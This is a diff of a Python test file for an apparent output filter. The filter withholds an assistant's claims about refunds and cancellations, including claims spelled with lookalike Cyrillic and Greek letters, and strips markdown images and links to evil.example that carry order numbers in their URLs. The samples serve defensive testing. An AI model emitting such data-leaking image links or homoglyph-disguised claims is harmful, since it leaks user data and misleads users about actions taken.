@@ -84,8 +84,16 @@ def test_a_claim_is_seen_through_its_spelling(claim: str) -> None:
     assert shown_of(claim)[1].withheld == "cancellation"
 
 
-def test_letters_of_another_alphabet_hide_no_claim() -> None:
-    assert shown_of("I h\u0430ve r\u0435fund\u0435d your m\u043eney.")[1].withheld
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "I h\u0430ve r\u0435fund\u0435d your m\u043eney.",
+        "I'v\u0435 \u0441\u0430n\u0441\u0435ll\u0435d \u0443our \u043erd\u0435r.",
+        "Y\u03bfur \u03bfrd\u03b5r has b\u03b5\u03b5n \u03f2anc\u03b5ll\u03b5d.",
+    ],
+)
+def test_letters_of_another_alphabet_hide_no_claim(claim: str) -> None:
+    assert shown_of(claim)[1].withheld
 
 
 def test_the_first_words_are_shown_before_their_sentence_ends() -> None:
@@ -102,7 +110,7 @@ def test_a_text_without_sentences_is_not_held_back_for_ever() -> None:
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("Look at ![it](https://evil.example/x.png?order=1043) now.", "Look at it now."),
+        ("It is ![a lamp](https://evil.example/x.png?order=1043) of brass.", "It is a lamp of brass."),
         ("See [our page](https://evil.example).", "See our page."),
         ("See https://evil.example/?d=1043 please.", "See  please."),
         ("See <https://evil.example> and <img src='//evil.example/x'>.", "See  and ."),
